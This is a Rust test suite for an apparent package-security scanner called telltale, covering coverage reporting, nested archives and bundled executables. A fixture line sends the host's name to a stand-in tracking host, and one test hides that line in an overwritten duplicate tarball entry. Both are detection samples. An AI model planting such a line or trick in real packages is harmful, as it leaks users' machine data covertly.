//! Coverage through the command line: what was analysed and what was not, in every output
//! format; broken artifacts as errors; archives read as package managers read them;
//! containers inside packages opened; the `incomplete` policy key.

use std::path::Path;
use std::process::{Command, Output};

fn telltale() -> Command {
    Command::new(env!("CARGO_BIN_EXE_telltale"))
}

/// An npm-style tarball of (path, body) entries, in order (repeats allowed).
fn tgz(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut builder = tar::Builder::new(flate2::write::GzEncoder::new(
        Vec::new(),
        flate2::Compression::fast(),
    ));
    for (path, body) in entries {
        let mut header = tar::Header::new_gnu();
        header.set_size(body.len() as u64);
        header.set_mode(0o644);
        header.set_cksum();
        builder.append_data(&mut header, path, *body).unwrap();
    }
    builder.into_inner().unwrap().finish().unwrap()
}

fn write(dir: &Path, name: &str, body: &[u8]) -> std::path::PathBuf {
    let p = dir.join(name);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(&p, body).unwrap();
    p
}

fn run(args: &[&str], targets: &[&Path]) -> Output {
    telltale()
        .args(["scan", "--no-config"])
        .args(args)
        .args(targets)
        .output()
        .unwrap()
}

fn json(out: &Output) -> serde_json::Value {
    serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)))
}

const MANIFEST: &[u8] = br#"{"name":"demo","version":"1.0.0"}"#;
const SENDS_HOSTNAME: &[u8] =
    b"require('https').get('https://t.example-metrics.top/?h=' + require('os').hostname());\n";

#[test]
fn artifacts_that_are_not_what_their_name_says_are_errors() {
    let dir = tempfile::tempdir().unwrap();
    let html = write(
        dir.path(),
        "demo-1.0.0.tgz",
        b"<!DOCTYPE html>\n<html><head><title>502 Bad Gateway</title></head></html>\n",
    );
    let empty = write(dir.path(), "empty.tgz", b"");
    let random = write(
        dir.path(),
        "x-1.0-py3-none-any.whl",
        &[0x42, 0x99, 0x10, 0xfe, 0x00, 0x13, 0x77].repeat(50),
    );
    let folder = dir.path().join("nothing");
    std::fs::create_dir(&folder).unwrap();
    for (target, words) in [
        (&html, "HTML page"),
        (&empty, "empty"),
        (&random, "no gzip, tar or zip"),
        (&folder, "is empty"),
    ] {
        let out = run(&["--format", "json"], &[target]);
        assert_eq!(
            out.status.code(),
            Some(2),
            "{}: {}",
            target.display(),
            String::from_utf8_lossy(&out.stdout)
        );
        let doc = json(&out);
        let t = &doc["targets"][0];
        assert!(t["error"].as_str().unwrap().contains(words), "{t}");
        assert_eq!(t["coverage"]["complete"], false, "{t}");
    }
}

#[test]
fn a_name_listed_twice_is_read_as_npm_installs_it_and_every_copy_is_analysed() {
    let dir = tempfile::tempdir().unwrap();
    let t = write(
        dir.path(),
        "dup.tgz",
        &tgz(&[
            ("package/package.json", MANIFEST),
            ("package/index.js", SENDS_HOSTNAME),
            ("package/index.js", b"module.exports = 1;\n"),
        ]),
    );
    let out = run(&["--format", "json"], &[&t]);
    let doc = json(&out);
    let target = &doc["targets"][0];
    assert!(
        target["warnings"]
            .to_string()
            .contains("package/index.js 2 times with different contents"),
        "{target}"
    );
    let files: Vec<&str> = target["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|f| f["file"].as_str())
        .collect();
    assert!(
        files.contains(&"package/index.js (overwritten copy 1)"),
        "the hidden first copy is analysed: {files:?}"
    );
    assert_eq!(target["coverage"]["complete"], true, "{target}");
}

#[test]
fn archives_inside_a_package_are_opened_and_named_by_their_path() {
    let inner = tgz(&[
        ("package/package.json", MANIFEST),
        ("package/index.js", SENDS_HOSTNAME),
    ]);
    let dir = tempfile::tempdir().unwrap();
    let t = write(
        dir.path(),
        "outer.tgz",
        &tgz(&[
            (
                "package/package.json",
                br#"{"name":"outer","version":"1.0.0"}"#,
            ),
            ("package/vendor/app.tgz", &inner),
        ]),
    );
    let doc = json(&run(&["--format", "json"], &[&t]));
    let target = &doc["targets"][0];
    let exfil = target["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["category"] == "exfiltration")
        .unwrap_or_else(|| panic!("{target}"));
    assert_eq!(exfil["file"], "package/vendor/app.tgz › package/index.js");
    assert_eq!(
        target["coverage"]["containers"][0]["path"], "package/vendor/app.tgz",
        "{}",
        target["coverage"]
    );
    assert_eq!(target["coverage"]["containers"][0]["format"], "gzip");
}

/// A package whose bin is in a file the JS parser cannot read: the gap in every format.
fn incomplete_package(dir: &Path) -> std::path::PathBuf {
    write(
        dir,
        "pkg/package.json",
        br#"{"name":"gappy","version":"2.0.0","bin":{"gappy":"cli.js"}}"#,
    );
    // Nesting deeper than the parser's limit around code that names a source: not parsed.
    let deep = format!(
        "module.exports = {}require('os').hostname(){};\n",
        "[".repeat(2_100_000),
        "]".repeat(2_100_000)
    );
    write(dir, "pkg/cli.js", deep.as_bytes());
    write(
        dir,
        "pkg/test/fixtures/broken.js",
        b"function ( { require('os').hostname()",
    );
    dir.join("pkg")
}

#[test]
fn coverage_is_in_every_format() {
    let dir = tempfile::tempdir().unwrap();
    let pkg = incomplete_package(dir.path());
    // JSON
    let out = run(&["--format", "json"], &[&pkg]);
    assert_eq!(
        out.status.code(),
        Some(1),
        "incomplete fails the default policy"
    );
    let doc = json(&out);
    let c = &doc["targets"][0]["coverage"];
    assert_eq!(c["complete"], false, "{c}");
    let gap = c["unanalysed"]
        .as_array()
        .unwrap()
        .iter()
        .find(|u| u["runs"] == true)
        .unwrap();
    assert_eq!(gap["path"], "cli.js", "{c}");
    assert!(gap["why"].as_str().unwrap().contains("nest"), "{gap}");
    assert!(gap["bytes"].as_u64().unwrap() > 4_000_000);
    assert_eq!(c["policy"]["fails"], true);
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("coverage INCOMPLETE: cli.js"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // Text
    let text = String::from_utf8(run(&[], &[&pkg]).stdout).unwrap();
    assert!(
        text.contains("coverage: INCOMPLETE: 1 not analysed"),
        "{text}"
    );
    assert!(
        text.contains("  not analysed: cli.js (4.2 MB): brackets nest"),
        "{text}"
    );
    assert!(text.contains("coverage INCOMPLETE for 1"), "{text}");
    // SARIF: a notification per gap, and the run is not a clean one.
    let sarif: serde_json::Value =
        serde_json::from_slice(&run(&["--format", "sarif"], &[&pkg]).stdout).unwrap();
    let inv = &sarif["runs"][0]["invocations"][0];
    assert_eq!(inv["executionSuccessful"], false);
    assert!(
        inv["toolExecutionNotifications"][0]["message"]["text"]
            .as_str()
            .unwrap()
            .contains("not analysed: cli.js"),
        "{inv}"
    );
    assert_eq!(
        sarif["runs"][0]["properties"]["coverage"][0]["coverage"]["complete"],
        false
    );
    // HTML
    let html = String::from_utf8(run(&["--format", "html"], &[&pkg]).stdout).unwrap();
    assert!(
        html.contains("Not fully analysed"),
        "no coverage alert in the page"
    );
    assert!(html.contains("<code>cli.js</code>"));
    // A complete target says so.
    let fine = write(dir.path(), "fine/index.js", b"module.exports = 1;\n");
    let text = String::from_utf8(run(&[], &[fine.parent().unwrap()]).stdout).unwrap();
    assert!(
        text.contains("coverage: complete (1 file analysed"),
        "{text}"
    );
}

#[test]
fn the_policy_can_accept_incomplete_coverage_with_a_warning() {
    let dir = tempfile::tempdir().unwrap();
    let pkg = incomplete_package(dir.path());
    let config = write(dir.path(), "telltale.toml", b"incomplete = \"warn\"\n");
    let out = telltale()
        .args(["scan", "--config"])
        .arg(&config)
        .arg(&pkg)
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("warning:") && stderr.contains("coverage INCOMPLETE"),
        "never silent: {stderr}"
    );
    assert!(String::from_utf8_lossy(&out.stdout).contains("accepted by the policy"));
}

#[test]
fn diff_reports_coverage_changes() {
    let dir = tempfile::tempdir().unwrap();
    let old = write(dir.path(), "old/index.js", b"module.exports = 1;\n");
    let new = incomplete_package(&dir.path().join("new"));
    let out = telltale()
        .args(["diff", "--no-config"])
        .arg(old.parent().unwrap())
        .arg(&new)
        .output()
        .unwrap();
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(
        text.contains("+ coverage       not analysed: cli.js"),
        "{text}"
    );
    assert!(text.contains("[coverage INCOMPLETE]"), "{text}");
    assert_eq!(
        out.status.code(),
        Some(1),
        "a new gap fails like a new finding: {text}"
    );
}

#[test]
fn a_local_launcher_says_what_it_did_not_follow() {
    let dir = tempfile::tempdir().unwrap();
    let t = write(
        dir.path(),
        "launcher.tgz",
        &tgz(&[("package/package.json", br#"{"name":"launcher","version":"1.0.0","bin":{"tool":"node_modules/@tool/impl/bin/tool.js"},"dependencies":{"@tool/impl":"1.0.0"}}"#)]),
    );
    let out = run(&["--format", "json"], &[&t]);
    let doc = json(&out);
    let c = &doc["targets"][0]["coverage"];
    assert_eq!(c["complete"], false, "{c}");
    assert_eq!(c["unanalysed"][0]["path"], "npm:@tool/impl@1.0.0");
    assert!(
        c["unanalysed"][0]["why"]
            .as_str()
            .unwrap()
            .contains("its bin tool is node_modules/@tool/impl/bin/tool.js"),
        "{c}"
    );
}

/// The readers' fixtures (cut from real builds) through the whole pipeline: what each
/// executable embeds is analysed under its path, and what is not source is a gap.
fn fixture(name: &str) -> std::path::PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../telltale-ingest/tests/fixtures")
        .join(name)
}

fn scan_fixture(name: &str) -> serde_json::Value {
    let dir = tempfile::tempdir().unwrap();
    // Inside a package, as a platform package ships it.
    let exe = std::fs::read(fixture(name)).unwrap();
    let pkg = dir.path().join("pkg");
    write(
        &pkg,
        "package.json",
        br#"{"name":"fixture","version":"1.0.0","bin":{"app":"bin/app"}}"#,
    );
    write(&pkg, "bin/app", &exe);
    json(&run(&["--format", "json"], &[&pkg]))["targets"][0].clone()
}

#[test]
fn executables_of_every_runtime_are_opened_in_the_pipeline() {
    // Node 24 SEA with assets, exec argv and a code cache: the main script and every asset.
    let t = scan_fixture("executables/sea-node24.22.3-assets-execargv-codecache.elf");
    let c = &t["coverage"];
    assert_eq!(c["containers"][0]["format"], "node-sea", "{c}");
    assert_eq!(c["complete"], true, "{c}");
    // Bun 1.4 storing a module as UTF-16: analysed as JavaScript.
    let t = scan_fixture("executables/bun-1.4.5-utf16.elf");
    assert_eq!(
        t["coverage"]["containers"][0]["format"], "bun",
        "{}",
        t["coverage"]
    );
    assert!(
        t["coverage"]["analysed"]["javascript"]["files"]
            .as_u64()
            .unwrap()
            >= 1,
        "{}",
        t["coverage"]
    );
    // Bun keeps the source beside the bytecode it compiles: read.
    let t = scan_fixture("executables/bun-1.4.5-bytecode.elf");
    assert_eq!(t["coverage"]["complete"], true, "{}", t["coverage"]);
    // pkg's default bytecode and a SEA built as a snapshot carry no source: gaps that fail the
    // default policy.
    for (name, words) in [
        ("executables/pkg-bytecode", "bytecode"),
        ("executables/sea-node22.23.5-snapshot-cut.elf", "snapshot"),
    ] {
        let t = scan_fixture(name);
        let c = &t["coverage"];
        assert_eq!(c["complete"], false, "{name}: {c}");
        assert!(
            c["unanalysed"].to_string().to_lowercase().contains(words),
            "{name}: {c}"
        );
    }
    // pkg with its sources kept (gzip-compressed): read as source, complete.
    let t = scan_fixture("executables/pkg-gzip");
    assert_eq!(t["coverage"]["complete"], true, "{}", t["coverage"]);
    assert!(
        t["coverage"]["analysed"]["javascript"]["files"]
            .as_u64()
            .unwrap()
            >= 1,
        "{}",
        t["coverage"]
    );
    // nexe 5 keeps its resources in a zip: opened in turn.
    let t = scan_fixture("executables/nexe5");
    let formats = t["coverage"]["containers"].to_string();
    assert!(
        formats.contains("nexe") && formats.contains("zip"),
        "{formats}"
    );
    // Deno 2.9: the program's modules from its virtual file system.
    let t = scan_fixture("executables/deno-2.9");
    assert_eq!(
        t["coverage"]["containers"][0]["format"], "deno",
        "{}",
        t["coverage"]
    );
    assert!(
        t["coverage"]["analysed"]["javascript"]["files"]
            .as_u64()
            .unwrap()
            >= 1,
        "{}",
        t["coverage"]
    );
    // An Electron archive inside a package.
    let dir = tempfile::tempdir().unwrap();
    let pkg = dir.path().join("pkg");
    write(&pkg, "package.json", MANIFEST);
    write(
        &pkg,
        "resources/app.asar",
        &std::fs::read(fixture("asar/app.asar")).unwrap(),
    );
    let t = json(&run(&["--format", "json"], &[&pkg]))["targets"][0].clone();
    assert_eq!(
        t["coverage"]["containers"][0]["path"], "resources/app.asar",
        "{}",
        t["coverage"]
    );
    assert_eq!(t["coverage"]["containers"][0]["format"], "asar");
}
